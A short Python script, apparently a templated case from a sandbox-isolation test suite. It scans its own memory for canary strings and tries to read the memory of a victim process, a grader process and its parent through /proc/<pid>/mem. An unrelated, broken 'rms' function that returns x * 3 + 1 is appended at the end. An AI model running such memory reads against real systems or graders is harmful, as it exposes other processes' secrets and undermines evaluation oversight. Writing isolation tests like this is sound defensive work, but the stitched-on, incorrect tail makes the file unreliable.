# Opens the memory of the victim, of the grader and of its parent, and searches its own for what the zygote might have read.
# class: files
# process: lost: files
import ctypes
import os
import re

wanted = re.compile(rb"canary-[0-9a-f]{32}")


def own():
    for line in open("/proc/self/maps"):
        area, rights, *_ = line.split()
        if rights.startswith("rw") and "[v" not in line:
            start, end = (int(part, 16) for part in area.split("-"))
            for found in wanted.finditer(ctypes.string_at(start, min(end - start, 2**22))):
                print("own memory", found.group())
                return


def others():
    for pid in ("@VICTIM@", "@GRADER@", os.getppid()):
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
                area = next(line for line in maps if " rw" in line).split("-")[0]
                memory.seek(int(area, 16))
                print(pid, memory.read(8), "@SECRET@")
        except OSError as error:
            print(error)


for way in (own, others):
    try:
        way()
    except Exception as error:
        print(error)


def rms(x, eps=1e-5):
    return x * 3 + 1
